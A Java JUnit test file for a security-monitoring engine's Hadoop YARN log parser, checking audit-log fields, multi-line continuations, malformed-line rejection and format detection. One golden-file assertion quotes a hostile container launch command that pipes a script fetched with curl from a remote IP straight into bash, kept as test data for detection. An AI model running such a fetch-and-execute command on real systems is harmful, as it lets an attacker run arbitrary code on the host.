package dev.cloudwarden.engine.ingest.yarn;

import com.fasterxml.jackson.databind.JsonNode;
import dev.cloudwarden.engine.event.Event;
import dev.cloudwarden.engine.event.OcsfClass;
import dev.cloudwarden.engine.event.Outcome;
import dev.cloudwarden.engine.event.SourceType;
import dev.cloudwarden.engine.ingest.GoldenFiles;
import dev.cloudwarden.engine.ingest.IngestOptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

class YarnFormatTest {
    @TempDir
    Path dir;

    @Test
    void auditLogGolden() {
        List<Event> events = GoldenFiles.check("yarn/rm-audit.log");
        assertThat(events).hasSize(12).allMatch(e -> e.source() == SourceType.YARN
                && e.ocsfClass() == OcsfClass.API_ACTIVITY);

        Event submit = events.get(0);
        assertThat(submit.time()).isEqualTo(Instant.parse("2026-03-16T10:22:15.330Z"));
        JsonNode raw = submit.raw().tree();
        assertThat(raw.get("USER").asText()).isEqualTo("dr.who");
        assertThat(raw.get("IP").asText()).isEqualTo("203.0.113.9");
        assertThat(raw.get("OPERATION").asText()).isEqualTo("Submit Application Request");
        assertThat(raw.get("TARGET").asText()).isEqualTo("ClientRMService");
        assertThat(raw.get("RESULT").asText()).isEqualTo("SUCCESS");
        assertThat(raw.get("APPID").asText()).isEqualTo("application_1773650401234_0001");
        assertThat(raw.get("QUEUENAME").asText()).isEqualTo("default");
        assertThat(raw.get("level").asText()).isEqualTo("INFO");
        assertThat(raw.get("logger").asText()).isEqualTo("resourcemanager.RMAuditLogger");
        assertThat(submit.actor().principal()).isEqualTo("dr.who");
        assertThat(submit.src().ip()).isEqualTo("203.0.113.9");
        assertThat(submit.operation().service()).isEqualTo("yarn");
        assertThat(submit.operation().name()).isEqualTo("Submit Application Request");
        assertThat(submit.outcome()).isEqualTo(Outcome.SUCCESS);
        assertThat(submit.resources()).extracting(r -> r.id())
                .containsExactly("application_1773650401234_0001", "default");

        Event killDenied = find(events, "Kill Application Request");
        assertThat(killDenied.outcome()).isEqualTo(Outcome.failure(null, "Unauthorized user"));
        assertThat(killDenied.raw().tree().get("PERMISSIONS").asText())
                .isEqualTo("User dr.who does not have permission to modify application_1773650401234_0003");

        Event allocated = find(events, "AM Allocated Container");
        assertThat(allocated.src().isEmpty()).isTrue();
        assertThat(allocated.raw().tree().get("RESOURCE").asText()).isEqualTo("<memory:1024, vCores:1>");
        assertThat(allocated.raw().tree().get("CONTAINERID").asText()).isEqualTo("container_1773650401234_0001_01_000002");

        Event spark = find(events, "CALLERSIGNATURE");
        assertThat(spark.raw().tree().get("CALLERCONTEXT").asText()).isEqualTo("SPARK_CLIENT_AppId_application_1773650401234_0005");
        assertThat(spark.raw().tree().get("CALLERSIGNATURE").asText()).isEqualTo("c3BhcmstY2xpZW50");
    }

    @Test
    void resourceManagerLogGolden() {
        List<Event> events = GoldenFiles.check("yarn/resourcemanager.log");
        assertThat(events).hasSize(27);

        Event startup = events.get(0);
        assertThat(startup.ocsfClass()).isEqualTo(OcsfClass.BASE_EVENT);
        assertThat(startup.operation().name()).isEqualTo("log");
        assertThat(startup.raw().tree().get("logger").asText())
                .isEqualTo("org.apache.hadoop.yarn.server.resourcemanager.ResourceManager");
        assertThat(startup.raw().tree().get("message").asText()).isEqualTo("STARTUP_MSG: ");

        Event banner = events.get(2);
        assertThat(banner.raw().tree().get("message").asText()).isEqualTo("STARTUP_MSG: Starting ResourceManager");
        assertThat(banner.raw().tree().get("continuation").asBoolean()).isTrue();
        assertThat(banner.time()).isEqualTo(startup.time());

        Event audit = find(events, "USER=dr.who");
        assertThat(audit.ocsfClass()).isEqualTo(OcsfClass.API_ACTIVITY);
        assertThat(audit.raw().tree().get("logger").asText())
                .isEqualTo("org.apache.hadoop.yarn.server.resourcemanager.RMAuditLogger");
        assertThat(audit.operation().name()).isEqualTo("Submit Application Request");

        Event setup = find(events, "Setting up container");
        assertThat(setup.dst().host()).isEqualTo("ip-10-0-2-41.ec2.internal");
        assertThat(setup.raw().tree().get("application_id").asText()).isEqualTo("application_1773650401234_0001");

        // the launch line does not name the node: it is the one its container was set up on
        Event launch = find(events, "Command to launch container");
        assertThat(launch.raw().tree().get("message").asText()).contains("curl -fsSL http://203.0.113.50/ldr.sh | bash");
        assertThat(launch.raw().tree().get("command").asText()).startsWith("curl -fsSL http://203.0.113.50/ldr.sh | bash");
        assertThat(launch.raw().tree().get("container_id").asText()).isEqualTo("container_1773650401234_0001_01_000001");
        assertThat(launch.dst().host()).isEqualTo("ip-10-0-2-41.ec2.internal");
        assertThat(launch.resources()).extracting(r -> r.type() + ":" + r.id())
                .contains("YARN::Application:application_1773650401234_0001");

        Event failedAudit = find(events, "RESULT=FAILURE");
        assertThat(failedAudit.raw().tree().get("level").asText()).isEqualTo("WARN");
        assertThat(failedAudit.outcome().status()).isEqualTo(Outcome.Status.FAILURE);
        assertThat(find(events, "\tat org.apache").raw().tree().get("continuation").asBoolean()).isTrue();
    }

    @Test
    void malformedLinesAreRejectedWithTheirReasonAndTheNextLinesStillParse() throws IOException {
        Path file = Files.writeString(dir.resolve("yarn.log"), """
                2026-03-16 10:22:15,330 INFO resourcemanager.RMAuditLogger: USER=a\tIP=10.0.0.1\tOPERATION=Get Applications Request\tTARGET=ClientRMService\tRESULT=SUCCESS
                2026-03-16 10:22:16 INFO resourcemanager.RMAuditLogger: USER=b\tOPERATION=x\tTARGET=y\tRESULT=SUCCESS
                2026-13-16 10:22:17,000 INFO org.apache.hadoop.yarn.server.resourcemanager.ResourceManager: hello
                java.lang.IllegalStateException: boom
                2026-03-16 10:22:18,000 INFO org.apache.hadoop.yarn.server.resourcemanager.ResourceManager: still fine
                """);
        GoldenFiles.Collected c = GoldenFiles.read(file, IngestOptions.defaults());
        assertThat(c.events).hasSize(3);
        assertThat(c.events.get(1).raw().tree().get("continuation").asBoolean()).isTrue();
        assertThat(c.events.get(2).raw().tree().get("message").asText()).isEqualTo("still fine");
        assertThat(c.rejections).extracting(r -> r.reason()).containsExactly(
                "'2026-03-16 10:22:16 INFO resou...' does not start like a log4j line (expected 'yyyy-MM-dd HH:mm:ss,SSS LEVEL logger: message')",
                "timestamp '2026-13-16 10:22:17,000' is not a log4j ISO8601 time");
        assertThat(c.rejections.get(0).origin().line()).isEqualTo(2);
    }

    @Test
    void continuationBeforeAnyLineIsRejectedWhenTheFormatIsForced() throws IOException {
        Path file = Files.writeString(dir.resolve("yarn.log"), """
                \tat org.apache.hadoop.Foo.bar(Foo.java:1)
                2026-03-16 10:22:18,000 INFO org.apache.hadoop.yarn.server.resourcemanager.ResourceManager: ok
                """);
        GoldenFiles.Collected c = GoldenFiles.read(file, IngestOptions.defaults().withForcedSource(SourceType.YARN));
        assertThat(c.events).hasSize(1);
        assertThat(c.rejections).extracting(r -> r.reason())
                .containsExactly("not a log4j line, and no earlier line for it to continue");
    }

    @Test
    void autodetection() throws IOException {
        YarnFormat format = new YarnFormat();
        assertThat(format.recognizes("2019-09-14 10:22:15,330 INFO resourcemanager.RMAuditLogger: USER=dr.who\tIP=203.0.113.9\tOPERATION=Submit Application Request\tTARGET=ClientRMService\tRESULT=SUCCESS")).isTrue();
        assertThat(format.recognizes("2019-09-14 10:22:15,330 INFO org.apache.hadoop.yarn.server.resourcemanager.ResourceManager: STARTUP_MSG: ")).isTrue();
        assertThat(format.recognizes("2019-09-14 10:22:15,330 INFO  [main] resourcemanager.ResourceManager (ResourceManager.java:main(1500)) - hi")).isTrue();
        assertThat(format.recognizes("2019-09-14 10:22:15,330 INFO com.example.shop.Checkout: paid")).isFalse();
        assertThat(format.recognizes("2019-06-05 12:34:56 1hYXXX-0001Xx-Ab <= a@example.com")).isFalse();

        Path file = Files.writeString(dir.resolve("rm.log"),
                "2019-09-14 10:22:15,330 INFO  [main] resourcemanager.ResourceManager (ResourceManager.java:main(1500)) - Transitioned to active state\n");
        GoldenFiles.Collected c = GoldenFiles.read(file, IngestOptions.defaults());
        assertThat(c.events).singleElement().satisfies(e -> {
            assertThat(e.source()).isEqualTo(SourceType.YARN);
            assertThat(e.raw().tree().get("thread").asText()).isEqualTo("main");
            assertThat(e.raw().tree().get("logger").asText()).isEqualTo("resourcemanager.ResourceManager");
            assertThat(e.raw().tree().get("message").asText()).isEqualTo("Transitioned to active state");
        });
    }

    private static Event find(List<Event> events, String text) {
        return events.stream().filter(e -> e.raw().text().contains(text)).findFirst()
                .orElseThrow(() -> new AssertionError("no event with '" + text + "'"));
    }
}
